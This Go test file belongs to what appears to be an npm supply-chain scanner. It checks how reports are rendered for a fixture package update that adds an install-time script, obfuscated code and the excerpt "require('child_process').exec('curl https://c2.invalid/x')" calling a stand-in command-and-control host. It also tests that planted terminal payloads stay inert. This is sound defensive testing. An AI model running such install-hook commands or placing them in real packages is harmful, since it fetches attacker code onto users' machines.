package report

import (
	"bytes"
	"fmt"
	"reflect"
	"strings"
	"testing"

	"github.com/go-json-experiment/json"
	"github.com/google/go-cmp/cmp"

	"github.com/lockkeeper/lockkeeper/internal/artifact"
	"github.com/lockkeeper/lockkeeper/internal/evidence"
)

// editions are two archives with every kind of change between them.
func editions() *evidence.Pair {
	hash := strings.Repeat("ab", 32)
	old := &artifact.Profile{
		Integrity: integrity("sha512", 64), Packed: 900, Unpacked: 4000,
		Files:    []artifact.File{{Path: "gone.js"}, {Path: "index.js"}, {Path: "lib/a.js"}},
		Commands: []artifact.Command{{Path: "package.json#install", Text: "node-gyp rebuild"}, {Path: "package.json#preinstall", Text: "node check.js"}},
	}
	latest := &artifact.Profile{
		Integrity: integrity("sha512", 64), Packed: 45_000, Unpacked: 12_600_000,
		Files: []artifact.File{
			{Path: ".npmrc", Kind: artifact.Text, Hash: hash}, {Path: "index.js", Kind: artifact.Script, Hash: hash},
			{Path: "setup.js", Kind: artifact.Script, Hash: hash}, {Path: "src/a.js", Kind: artifact.Script, Hash: hash},
		},
		Commands: []artifact.Command{{Path: "package.json#install", Text: "node-gyp rebuild"}, {Path: "package.json#postinstall", Text: "node setup.js"}},
	}
	const call = "require('child_process').exec('curl https://c2.invalid/x')"
	return &evidence.Pair{
		Ecosystem: "npm", Name: "wren",
		Old: evidence.Edition{Version: "1.0.0", Published: now.AddDate(-1, 0, 0), Profile: old},
		New: evidence.Edition{Version: "1.0.1", Profile: latest},
		Confused: []artifact.Difference{
			{Field: "scripts.postinstall", Inside: "node setup.js"}, {Field: "dependencies.tern", Inside: "^1.0.0", Listed: "^2.0.0"},
		},
		Delta: &artifact.Delta{
			Changes: []artifact.Change{
				{Kind: artifact.Added, Path: ".npmrc", Size: 20},
				{Kind: artifact.Removed, Path: "gone.js", Size: 400},
				{Kind: artifact.Changed, Path: "index.js", Reach: artifact.AtImport, Was: artifact.AtImport, Size: 5000, Novelty: 12},
				{Kind: artifact.Added, Path: "setup.js", Reach: artifact.AtInstall, Size: 400_000, Novelty: 100},
				{Kind: artifact.Moved, Path: "src/a.js", From: "lib/a.js", Reach: artifact.AsProgram, Size: 1},
			},
			News: []artifact.News{
				{Kind: artifact.Doubled, Count: 12_600_000},
				{Kind: artifact.NewFault, What: string(artifact.Link), Path: "package/link", Count: 1},
				{Kind: artifact.NewObeyed, What: "npm reads it", Path: ".npmrc", Count: 1},
				{Kind: artifact.NewMention, What: "cdn.invalid", Text: "https://cdn.invalid/", Path: "index.js", Line: 3, Offset: 90, Reach: artifact.AtImport, Count: 4, Excerpt: "load('https://cdn.invalid/')"},
				{Kind: artifact.NewBundle, What: "lark", Text: "1.0.0", Path: "node_modules/lark", Count: 1},
				{Kind: artifact.NewCommand, What: "postinstall", Text: "node setup.js", Path: "package.json#postinstall", Reach: artifact.AtInstall, Count: 1},
				{Kind: artifact.LargeScript, Path: "setup.js", Reach: artifact.AtInstall, Count: 400_000},
				{Kind: artifact.NewUnreadable, Text: "its brackets don't match", Path: "setup.js", Reach: artifact.AtInstall, Count: 1},
				{Kind: artifact.NewCapability, What: "process", Text: "child_process.exec", Path: "setup.js", Line: 1, Offset: 30, Reach: artifact.AtInstall, Count: 1, Excerpt: call},
				{Kind: artifact.NewUse, What: "process", Text: "child_process.exec", Path: "setup.js", Line: 1, Offset: 30, Reach: artifact.AtInstall, Count: 1, Excerpt: call},
				{Kind: artifact.NewModule, What: "child_process", Text: "child_process", Path: "setup.js", Line: 1, Offset: 31, Reach: artifact.AtInstall, Count: 1, Excerpt: call},
				{Kind: artifact.NewTrait, What: "hex-identifiers", Path: "setup.js", Line: 2, Offset: 300, Reach: artifact.AtInstall, Count: 120, Excerpt: "var _0x3fa2c1 = 1"},
				{Kind: artifact.NewBinary, What: "binary", Path: "src/a.js", Reach: artifact.AsProgram, Count: 1},
				{Kind: artifact.NewUse, What: "network", Text: "fetch", Path: "test/a.js", Line: 7, Offset: 70, Reach: artifact.InTests, Count: 2},
				{Kind: artifact.NewUse, What: "read", Text: "fs.readFileSync", Path: "x.js", Line: 8, Offset: 80, Count: 1},
			},
			Omitted: 1,
		},
	}
}

func delta(t testing.TB, format string, d *Delta, o Options) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := RenderDelta(&b, format, d, o); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestDeltaGolden(t *testing.T) {
	d := BuildDelta(editions(), "1.2.3")
	golden(t, "delta.txt", delta(t, "text", d, Options{}))
	golden(t, "delta.color.txt", delta(t, "text", d, Options{Color: true, Width: 80}))
	golden(t, "delta.json", delta(t, "json", d, Options{}))

	alone := editions()
	alone.Old, alone.Confused = evidence.Edition{}, nil
	golden(t, "delta.first.txt", delta(t, "text", BuildDelta(alone, "1.2.3"), Options{}))

	same := editions()
	same.New, same.Confused, same.Delta = same.Old, nil, &artifact.Delta{}
	golden(t, "delta.same.txt", delta(t, "text", BuildDelta(same, "1.2.3"), Options{}))
}

// The text is made of the document and nothing else.
func TestDeltaTextOfSavedDocument(t *testing.T) {
	d := BuildDelta(editions(), "1.2.3")
	var saved Delta
	if err := json.Unmarshal(delta(t, "json", d, Options{}), &saved, json.RejectUnknownMembers(true)); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(delta(t, "text", d, Options{})), string(delta(t, "text", &saved, Options{}))); diff != "" {
		t.Errorf("the text differs (-direct +saved):\n%s", diff)
	}
}

// Every kind of news has words, and the text leaves none out.
func TestEachKindOfNewsIsSaid(t *testing.T) {
	for _, kind := range []artifact.NewsKind{
		artifact.NewUse, artifact.NewCapability, artifact.NewMention, artifact.NewModule, artifact.NewTrait, artifact.NewUnreadable,
		artifact.NewBinary, artifact.LargeScript, artifact.Doubled, artifact.NewObeyed, artifact.NewBundle, artifact.NewFault,
	} {
		if newsWords[string(kind)] == nil {
			t.Errorf("%s has no words", kind)
		}
		for _, reach := range []artifact.Reach{artifact.AtInstall, artifact.AtImport, artifact.AsProgram, artifact.InTests, artifact.Unknown} {
			pair := editions()
			pair.Delta = &artifact.Delta{News: []artifact.News{{Kind: kind, What: "what", Text: "text", Path: "marked.js", Reach: reach}}}
			if text := delta(t, "text", BuildDelta(pair, ""), Options{}); !bytes.Contains(text, []byte("marked.js")) {
				t.Errorf("%s that runs %q is left out:\n%s", kind, reach, text)
			}
		}
	}
}

func TestDeltaTextCountsWhatItLeavesOut(t *testing.T) {
	pair := editions()
	for i := range 500 {
		path := fmt.Sprintf("f%03d.js", i)
		pair.Delta.Changes = append(pair.Delta.Changes, artifact.Change{Kind: artifact.Added, Path: path})
		pair.Delta.News = append(pair.Delta.News, artifact.News{Kind: artifact.NewModule, Text: "fs", Path: path, Line: 1, Reach: artifact.AtImport})
		pair.New.Profile.Commands = append(pair.New.Profile.Commands, artifact.Command{Path: "package.json#install", Text: path})
	}
	text := string(delta(t, "text", BuildDelta(pair, ""), Options{}))
	for _, want := range []string{"462 more are in", "471 more places are in", "483 more are in"} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in:\n%s", want, text)
		}
	}
}

// Whatever field of an archive an attack comes in, it reaches no terminal.
func TestAttackInDelta(t *testing.T) {
	for _, payload := range payloads {
		d := BuildDelta(editions(), "1.2.3")
		plant(reflect.ValueOf(d), "Delta", func(name, value string) string {
			switch name {
			case "Delta.Files.Change", "Delta.News.Kind", "Delta.News.Reach": // or the rest isn't shown
				return value
			}
			return payload
		})
		for _, format := range DeltaFormats() {
			if err := inertText(delta(t, format, d, Options{})); err != nil {
				t.Errorf("%s, %.60q: %v", format, payload, err)
			}
		}
		plant(reflect.ValueOf(d), "Delta", func(string, string) string { return payload })
		if err := inertText(delta(t, "text", d, Options{})); err != nil {
			t.Errorf("in every field, %.60q: %v", payload, err)
		}
	}
}

func TestUnknownDeltaFormat(t *testing.T) {
	if err := RenderDelta(&bytes.Buffer{}, "yaml", &Delta{}, Options{}); err == nil || !strings.Contains(err.Error(), "text, json") {
		t.Errorf("error %v", err)
	}
}
